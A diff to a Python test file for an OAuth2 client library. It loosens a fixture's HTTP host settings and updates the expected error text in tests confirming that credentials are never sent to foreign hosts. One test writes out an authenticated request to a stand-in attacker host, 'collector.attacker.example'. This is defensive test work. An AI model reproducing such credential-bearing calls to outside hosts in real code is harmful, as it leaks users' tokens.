@@ -65,7 +65,9 @@ def pb(runtime: Runtime, provider: ProviderServer) -> Iterator[LocalClient]:
             credential=OAuth2Credential(issued["access_token"], issued["refresh_token"]),
         )
     # Refreshing reaches the provider's token endpoint on loopback.
-    settings = runtime.settings.model_copy(update={"outbound_allowlist": "127.0.0.1"})
+    settings = runtime.settings.model_copy(
+        update={"outbound_allowlist": "127.0.0.1", "allow_http_hosts": "127.0.0.1"}
+    )
     client = LocalClient(replace(runtime, settings=settings))
     try:
         yield client
@@ -127,7 +129,7 @@ def test_an_httpx_client_never_sends_the_credential_to_another_host(pb: LocalCli
     sent: list[httpx.Request] = []
     transport = httpx.MockTransport(lambda request: sent.append(request) or httpx.Response(200))
     with httpx.Client(auth=pb.auth(LINK), transport=transport) as http:
-        with pytest.raises(OutboundBlocked, match="not a host of service"):
+        with pytest.raises(OutboundBlocked, match="not an origin of service"):
             http.get("https://collector.attacker.example/api/oauth2/me")
     assert sent == []
 
@@ -169,7 +171,7 @@ def test_a_second_401_after_the_refresh_is_returned_to_requests_as_it_is(
 
 
 def test_requests_never_sends_the_credential_to_another_host(pb: LocalClient) -> None:
-    with pytest.raises(OutboundBlocked, match="not a host of service"):
+    with pytest.raises(OutboundBlocked, match="not an origin of service"):
         # Refused while the request is prepared: nothing is sent.
         requests.get("http://127.0.0.2:9/api/oauth2/me", auth=pb.auth(LINK), timeout=1)
 
